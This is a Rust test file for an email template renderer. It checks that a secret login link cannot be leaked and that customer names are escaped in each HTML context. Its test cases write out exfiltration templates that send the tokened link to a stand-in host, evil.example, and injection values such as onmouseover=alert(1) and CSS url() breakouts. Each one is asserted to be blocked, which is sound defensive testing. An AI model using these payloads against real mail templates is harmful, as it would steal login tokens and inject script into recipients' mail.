//! Where data and the mail's link may stand, and how.

#![allow(clippy::unwrap_used)]

use serde_json::json;

use super::problem::Fault;
use super::{Budget, Part, Template, Value};

const LINK: &str = "https://shop.example/?token=SECRET";

fn made(template: &str, first: &str, last: &str, part: Part) -> Result<String, Fault> {
    let facts = json!({ "customer": { "first_name": first, "last_name": last, "email": "victim@example.com" } });
    let values = Value::from(&facts).with_link("customer", &["url"], LINK);
    Template::parse(template).unwrap().render(&values, part, &mut Budget::default()).map_err(|problem| problem.fault)
}

fn html(template: &str, first: &str, last: &str) -> String {
    made(template, first, last, Part::Html).unwrap()
}

#[test]
fn the_link_stands_by_itself() {
    for (template, expected) in [
        ("<a href=\"{{ customer.url }}\">Go</a>", format!("<a href=\"{LINK}\">Go</a>")),
        ("<a href='{{ customer.url | escape }}'>", format!("<a href='{LINK}'>")),
        ("<a href={{ customer.url }}>", "<a href=https://shop.example/?token&#61;SECRET>".into()),
        ("<p>{{ customer.url }}</p>", format!("<p>{LINK}</p>")),
        ("<p>Here: {{ customer.url }}</p>", format!("<p>Here: {LINK}</p>")),
        ("{% assign u = customer.url | default: 'x' %}<p>{{ u }}", format!("<p>{LINK}")),
        ("{% if customer.url != blank %}yes{% endif %}", "yes".into()),
        (
            "<!--[if mso]><v:roundrect href=\"{{ customer.url }}\"><![endif]-->",
            format!("<!--[if mso]><v:roundrect href=\"{LINK}\"><![endif]-->"),
        ),
    ] {
        assert_eq!(html(template, "", ""), expected, "{template}");
    }
    assert_eq!(made("Go:\n{{ customer.url }}\n", "", "", Part::Plain).unwrap(), format!("Go:\n{LINK}\n"));
}

#[test]
fn the_link_is_never_part_of_anything_else() {
    for template in [
        "<img src=\"https://evil.example/?u={{ customer.url }}\">",
        "<img src=\"{{ customer.url }}\">",
        "<a href=\"https://evil.example/?u={{ customer.url }}\">",
        "<a href=https://evil.example/?u={{ customer.url }}>",
        "<p>https://evil.example/?u={{ customer.url }}</p>",
        "<p style=\"background:url({{ customer.url }})\">",
        "<style>p { background: url({{ customer.url }}) }</style>",
        "<script>send('{{ customer.url }}')</script>",
        "<input value=\"{{ customer.url }}\">",
        "<!--[if mso]><img src=\"https://evil.example/?{{ customer.url }}\"><![endif]-->",
        "<{{ customer.url }}>",
        "{% capture u %}{{ customer.url }}{% endcapture %}<img src=\"https://evil.example/?{{ u }}\">",
        "{% if customer.email contains 'victim@' %}<img src=\"https://evil.example/?u={{ customer.url }}\">{% endif %}",
    ] {
        assert_eq!(made(template, "", "", Part::Html), Err(Fault::LinkNotApart), "{template}");
    }
    let in_text = "https://evil.example/?u={{ customer.url }}";
    assert_eq!(made(in_text, "", "", Part::Plain), Err(Fault::LinkNotApart));
}

#[test]
fn nothing_is_made_of_the_link() {
    for filter in
        ["split: '' | reverse | join: ''", "append: 'x'", "slice: 5", "upcase", "url_encode", "size", "remove: 'a'"]
    {
        let template = format!("{{{{ customer.url | {filter} }}}}");
        assert!(matches!(made(&template, "", "", Part::Html), Err(Fault::LinkFiltered { .. })), "{filter}");
    }
    for template in ["{{ 'x' | append: customer.url }}", "{{ 'x' | replace: 'x', customer.url }}"] {
        assert!(matches!(made(template, "", "", Part::Plain), Err(Fault::LinkFiltered { .. })), "{template}");
    }
    // Nor can it be asked for letter by letter.
    for test in ["contains 'S'", "> 'https'", "< 'https'", "== 'https://shop.example/?token=SECRET'"] {
        let template = format!("{{% if customer.url {test} %}}told{{% endif %}}");
        assert_eq!(html(&template, "", ""), "", "{test}");
    }
    assert_eq!(html("{{ customer.url.size }}{{ customer.url[0] }}{{ customer.url.first }}", "", ""), "");
    assert_eq!(html("{% for c in customer.url %}{{ c | slice: 0 }}{% endfor %}", "", ""), "");
    assert_eq!(html("{% case customer.url %}{% when 'x' %}a{% else %}b{% endcase %}", "", ""), "b");
}

#[test]
fn what_a_text_is_cut_with_is_escaped_too() {
    let bad = "<a href=\"https://evil.example\">Set a password</a>";
    for filter in ["truncate: 20, customer.first_name", "truncatewords: 2, customer.first_name"] {
        let made = html(&format!("{{{{ 'We are glad to have you with us' | {filter} }}}}"), bad, "");
        assert!(!made.contains("<a") && made.contains("&lt;a"), "{filter}: {made}");
    }
}

#[test]
fn data_that_was_escaped_for_text_is_escaped_anew_elsewhere() {
    for (template, data, never) in [
        ("<td title={{ customer.first_name | escape }}>", "x onmouseover=alert(1)", " onmouseover="),
        ("<p {{ customer.first_name | escape }}>", "onclick=alert(1)", "onclick="),
        ("<td style=\"color:{{ customer.first_name | escape }}\">", "red;background:url(https://e.example)", "url("),
        ("<style>p{color:{{ customer.first_name | escape }}}</style>", "red}*{background:url(//e)", "url("),
        ("<a href=\"https://s.example/?n={{ customer.first_name | h }}\">", "a&next=https://e.example", "&next"),
        ("{% capture n %}{{ customer.first_name }}{% endcapture %}<td title={{ n }}>", "x onclick=y", " onclick="),
        ("<td title={{ 'Hi ' | append: customer.first_name }}>", "x onclick=y", " onclick="),
        ("<td title={{ 'Hi N' | replace: 'N', customer.first_name }}>", "x onclick=y", " onclick="),
        ("<td title={{ customer.first_name | newline_to_br }}>", "x onclick=y", " onclick="),
        (
            "{% assign l = 'a,b' | split: ',' %}<td title={{ l | join: customer.first_name }}>",
            "x onclick=y",
            " onclick=",
        ),
    ] {
        let made = html(template, data, "");
        assert!(!made.contains(never), "{template}: {made}");
    }
    assert_eq!(html("<p>{{ customer.first_name | escape }}</p>", "<b> & \"", ""), "<p>&lt;b&gt; &amp; &quot;</p>");
    let greeting = "{% capture g %}<b>{{ customer.first_name }}</b>{% endcapture %}<p>{{ g }}</p>";
    assert_eq!(html(greeting, "<i>", ""), "<p><b>&lt;i&gt;</b></p>");
    let title = "{% capture g %}Hello {{ customer.first_name }}{% endcapture %}<td title=\"{{ g }}\">";
    assert_eq!(html(title, "A & B", ""), "<td title=\"Hello A &amp; B\">", "escaped once");
}

#[test]
fn a_value_that_leaves_nothing_does_not_open_its_attribute_to_the_next() {
    let made = html("<td style={{ customer.first_name }} title=\"{{ customer.last_name }}\">", "!", "x onclick=y ");
    assert_eq!(made, "<td style=&#32; title=\"x onclick=y \">");
}

#[test]
fn a_style_of_nothing_but_ends_of_tags_takes_no_longer_than_others() {
    let template = "{% capture c %}{% for i in (1..1000) %}>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>{% endfor %}{% endcapture %}<style>{{ c }}</style>";
    // The clock of the budget would end it, if every `>` looked at all that stands before it.
    assert!(html(template, "", "").ends_with("></style>"));
}
